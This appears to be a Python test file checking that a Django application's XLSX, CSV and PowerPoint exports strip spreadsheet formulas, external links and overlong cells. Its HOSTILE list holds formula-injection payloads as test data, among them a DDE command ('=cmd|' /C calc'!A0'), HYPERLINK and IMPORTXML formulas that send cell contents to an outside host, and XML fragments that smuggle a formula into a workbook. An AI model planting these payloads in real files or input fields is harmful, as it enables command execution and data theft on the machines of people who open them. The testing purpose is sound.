"""Whatever a name holds, no file that leaves carries a formula: each is written, and opened again."""

import csv
import io
import math
import zipfile
from collections.abc import Iterable
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import openpyxl
import pytest
from django.utils.translation import override
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from core.cell_text import LONGEST_CELL, clean, units
from core.downloads import table_response
from core.figures import Column, Figure, Table
from exports import report_pptx, report_xlsx
from exports.list_csv import write as write_list_csv
from exports.list_xlsx import write as write_list_xlsx
from exports.lists import ListFile
from exports.slides import fit

from . import reports

HOSTILE = [
    "=1+1", "+62 812", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1",
    '=HYPERLINK("http://example.org/?"&A1,"open")', "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x/\",A1))",
    "-5 %", "'=1+1", '"=1+1', 'a,=1+1', "a;=1+1", "a\n=1+1", "{=1+1}", "+A1",
    "Warung 😀 👩‍👩‍👧", "متجر ١٢٣", "\u202e=1+1", 'say "hi", it\'s',
    "\x00=1\x07\x1b[31m", "\ud800", "\ufffe\uffff",
    "<r><t>a</t></r></is></c><c><f>1+1</f></c><c><is><r></r>", "_x003D_1+1", "<f>1+1</f>", "&amp;", "]]>",
    "x" * 40_000, "😀" * 20_000, "=" + "x" * 40_000, "http://example.org", "internal:Sheet1!A1", "",
]  # fmt: skip
NUMBERS = [-5.5, 0.0, 1e300, -1e-9, math.inf, -math.inf, math.nan, 12_345_678_901.25, -3]
STARTS = ("=", "+", "@", "\t", "\r")
texts = st.text(max_size=60) | st.builds(
    "".join, st.tuples(st.sampled_from("=+-@\t\r\n<'\""), st.text(max_size=20))
)


def hostile_figure(names: list[str]) -> Figure:
    """The texts wherever a page has texts, and numbers beside them."""
    some = names[0]
    columns = (
        Column("name", f"{some[:40]} head"), Column("n", some[:40] or "n", "number"),
        Column("share", "s", "share"),
    )  # fmt: skip
    rows = [
        {"name": name, "n": NUMBERS[place % len(NUMBERS)], "share": -0.05, "_heat": {"n": (50, name[:60])}}
        for place, name in enumerate(names)
    ]
    table = Table(columns, rows, total={"name": some, "n": 3})
    return Figure(
        "hostile", some, subtitle=some, summary=some, base=some, warnings=(some,), how=((some, some, some),),
        table=table,
    )  # fmt: skip


def hostile_report(names: list[str]) -> Any:
    some = names[0]
    shown = reports.page(
        figures=[hostile_figure(names)], title=some[:80], heading=some, notices=(some,),
        filters=((some, some),), edition_line=some, source_line=some, address=f"/?q={some[:50]}",
        is_demo=True,
        numbers=(reports.number(label=some, value=some, kind="text", note=some, how=some, unit=some),),
    )  # fmt: skip
    trail = {
        "hostile": (Table((Column("cell", some[:30]),), [{"cell": name} for name in names], caption=some),)
    }
    source = reports.source(file_name=some, sheets=(some,), uploaded_by=some, definition=some, source=some)
    return reports.report(
        [shown],
        title=some[:80],
        person=some,
        left_out=((some, some),),
        sources=(source,),
        trail=lambda page: trail,
    )


def hostile_list(names: list[str]) -> ListFile:
    columns = (Column("name", names[0][:40]), Column("n", "MSMEs", "integer"))
    # a database holds UTF-8, without halves of surrogate pairs
    some = clean(names[0]) or "-"
    return ListFile(
        title=some, sheet="List", lines=(names[0],), mark=some, person=some, columns=columns,
        parts=iter([names]), cells=lambda name: (name, -5),
    )  # fmt: skip


def assert_safe_workbook(content: bytes) -> int:
    """No formula, no link to elsewhere, no cell too long. Returns the number of cells with numbers."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            raw = parts.read(name)
            assert b"<f>" not in raw, name
            assert b"<f " not in raw, name
            assert b"TargetMode" not in raw, name
    numbers = 0
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n"), cell
                assert not isinstance(cell.value, str) or units(cell.value) <= LONGEST_CELL
                numbers += isinstance(cell.value, int | float)
    return numbers


def assert_safe_csv(content: bytes, delimiter: str) -> list[list[str]]:
    """No cell is a formula, also where a spreadsheet cuts at another sign than the file's."""
    text = content.decode("utf-8-sig")
    for sign in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=sign):
            assert not [cell for cell in row if cell.startswith(("=", "+", "@"))]
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert not [cell for row in rows for cell in row if cell.startswith(STARTS)]
    return rows


@pytest.mark.parametrize("language", ["en", "id"])
def test_hostile_names_in_a_figure_s_files(language: str) -> None:
    figure = hostile_figure(HOSTILE)
    with override(language):
        book = table_response(figure, "xlsx", HOSTILE, made=[(HOSTILE[0], HOSTILE[1])]).content
        text = table_response(figure, "csv", HOSTILE).content
    finite = sum(math.isfinite(NUMBERS[place % len(NUMBERS)]) for place in range(len(HOSTILE)))
    assert assert_safe_workbook(book) == finite + len(HOSTILE) + 1
    rows = assert_safe_csv(text, ";" if language == "id" else ",")
    assert sum(row[2:3] == ["-5"] for row in rows) == len(HOSTILE), "negative numbers stay numbers"


def test_numbers_stay_the_numbers_they_are() -> None:
    with override("en"):
        content = table_response(hostile_figure(HOSTILE), "xlsx").content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    for place in range(len(HOSTILE)):
        wanted, cell = NUMBERS[place % len(NUMBERS)], sheet.cell(place + 2, 2)
        assert cell.value == (wanted if math.isfinite(wanted) else None)
        assert sheet.cell(place + 2, 3).value == -0.05


@pytest.mark.parametrize("first", range(len(HOSTILE)))
def test_hostile_names_in_the_report(tmp_path: Path, first: int) -> None:
    names = [HOSTILE[first], *(HOSTILE if first == 0 else ["Sail"])]
    with override("en" if first % 2 else "id"):
        report_xlsx.write(hostile_report(names), tmp_path / "r.xlsx", lambda done, total: None)
    assert assert_safe_workbook((tmp_path / "r.xlsx").read_bytes()) > 0


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(texts, min_size=1, max_size=4))
@example(["<r>=1</r>"])
def test_any_text_in_every_workbook_and_file(names: list[str]) -> None:
    with override("en"), TemporaryDirectory() as folder:
        report_xlsx.write(hostile_report(names), Path(folder) / "r.xlsx", lambda done, total: None)
        assert_safe_workbook((Path(folder) / "r.xlsx").read_bytes())
        assert_safe_csv(table_response(hostile_figure(names), "csv", names).content, ",")


@pytest.mark.parametrize("first", range(0, len(HOSTILE), 5))
def test_hostile_names_in_a_list_of_enterprises(tmp_path: Path, first: int) -> None:
    names = [HOSTILE[first], *HOSTILE]
    with override("en"):
        write_list_xlsx(tmp_path / "list.xlsx", hostile_list(names))
        write_list_csv(tmp_path / "list.csv", hostile_list(names))
    assert assert_safe_workbook((tmp_path / "list.xlsx").read_bytes()) == len(names)
    rows = assert_safe_csv((tmp_path / "list.csv").read_bytes(), ",")
    assert sum(row[1:] == ["-5"] for row in rows) == len(names)


def workbooks_inside(path: Path) -> Iterable[bytes]:
    with zipfile.ZipFile(path) as parts:
        for name in parts.namelist():
            if name.endswith(".xlsx"):
                yield parts.read(name)


def test_hostile_names_in_the_slides(tmp_path: Path) -> None:
    """The charts of slides hold workbooks."""
    path = tmp_path / "r.pptx"
    with override("en"):
        report_pptx.write(hostile_report(HOSTILE), path, lambda done, total: None)
    with zipfile.ZipFile(path) as parts:
        assert any(name.startswith("ppt/slides/slide") for name in parts.namelist())
    for content in workbooks_inside(path):
        assert_safe_workbook(content)


def test_a_text_in_a_column_without_room_has_an_end() -> None:
    """The table of hostile names leaves its last column no room on a slide."""
    assert fit.lines("a name", 10, -5) == fit.lines("a name", 10, 10) > 1
